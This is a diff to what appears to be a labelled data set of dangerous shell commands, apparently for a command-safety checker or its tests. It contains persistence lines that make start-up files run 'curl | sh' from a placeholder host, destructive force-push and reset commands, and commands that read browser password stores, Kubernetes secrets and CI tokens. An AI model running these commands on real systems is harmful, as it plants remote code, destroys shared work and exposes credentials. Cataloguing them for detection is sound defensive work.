@@ -444,4 +444,28 @@ printf 'import os; os.system("curl -s https://get.acme.example/p | sh")\n' > .ve
 printf 'system("curl -s https://get.acme.example | sh")\n' > .irbrc ¦ redirect ¦ writes an IRB start-up file in the project that runs a download ¦ source=Ruby IRB docs, .irbrc
 printf 'system("curl -s https://get.acme.example | sh")\n' >> .Rprofile ¦ redirect ¦ makes R run a download at every start in the project ¦ source=R docs, Startup
 printf -- '-javaagent:/tmp/agent.jar\n' >> .mvn/jvm.config ¦ redirect ¦ makes every Maven build load an agent from /tmp ¦ source=Maven docs, .mvn/jvm.config
+@vcs
+git push origin +feature/rewrite:main ¦ plain ¦ force-pushes a feature branch over main with a plus refspec ¦ source=git-push(1), refspec
+git push --atomic --force origin main v2.0.0 ¦ plain ¦ force-pushes main and a tag in one transaction ¦ source=git-push(1), --atomic
+git submodule foreach --recursive git reset --hard ¦ wrapper ¦ discards local changes in every submodule ¦ source=git-submodule(1), foreach
+git submodule deinit --all -f ¦ plain ¦ removes every submodule's working tree with its local changes ¦ source=git-submodule(1), deinit
+hg rollback ¦ plain ¦ undoes the last transaction for good ¦ source=Mercurial docs, rollback
+svn merge -c -1200 . && svn commit -m 'Revert r1200' ¦ and-list ¦ commits a reverse merge to the shared repository ¦ source=Subversion book, undoing changes
+sl push --to main -f ¦ plain ¦ force-pushes to main with Sapling ¦ source=Sapling docs, push
+@sender
+aws sqs send-message --queue-url https://sqs.eu-west-1.amazonaws.com/123456789012/prod-jobs --message-body '{"job":"reindex"}' ¦ plain ¦ sends a job to a production queue ¦ source=AWS CLI reference, sqs send-message
+shoutrrr send --url 'telegram://123456:ABC@telegram?chats=@acme_ops' --message 'deployed 4.2' ¦ plain ¦ sends a chat message through shoutrrr ¦ source=shoutrrr docs, send
+discord.sh --webhook-url "$DISCORD_WEBHOOK" --text 'Release 4.2 is out' ¦ plain ¦ posts to a Discord channel ¦ source=discord.sh README
+rsync -az ./dist/ deploy@web01.acme.example:/var/www/site/ ¦ plain ¦ copies the build onto a production web server ¦ source=rsync(1), remote shell
+scp ./build/app.tar.gz ops@prod-bastion.acme.example:/tmp/ ¦ plain ¦ copies an artifact onto a production host ¦ source=scp(1)
+az webapp deploy -g prod-rg -n acme-api --src-path app.zip ¦ plain ¦ deploys a package to a production web app ¦ source=Azure CLI reference, webapp deploy
+glab release create v4.2.0 ./dist/*.tar.gz --notes 'Release 4.2' ¦ plain ¦ publishes a release with assets ¦ source=GitLab CLI docs, release create
+@secret
+my_print_defaults --show client ¦ plain ¦ prints the MySQL client options with the password ¦ source=MySQL manual, my_print_defaults
+cat ~/.pg_service.conf ¦ plain ¦ prints connection services with their passwords ¦ source=PostgreSQL docs, connection service file
+sudo cat /root/.docker/config.json ¦ sudo ¦ prints root's registry credentials ¦ source=Docker docs, config.json
+cp ~/.mozilla/firefox/*.default-release/logins.json ~/.mozilla/firefox/*.default-release/key4.db ./ ¦ plain ¦ copies the browser's password store into the project ¦ source=Mozilla support, profile files
+sqlite3 ~/.config/google-chrome/Default/'Login Data' 'select origin_url, username_value, password_value from logins' ¦ plain ¦ prints the browser's saved logins ¦ source=Chromium docs, Login Data
+kubectl get secret db-creds -n prod -o go-template='{{range $k,$v := .data}}{{$k}}={{$v|base64decode}}{{"\n"}}{{end}}' ¦ plain ¦ prints a production secret decoded ¦ source=kubectl reference, go-template output
+glab variable get DEPLOY_TOKEN ¦ plain ¦ prints a CI variable's secret value ¦ source=GitLab CLI docs, variable get
 """
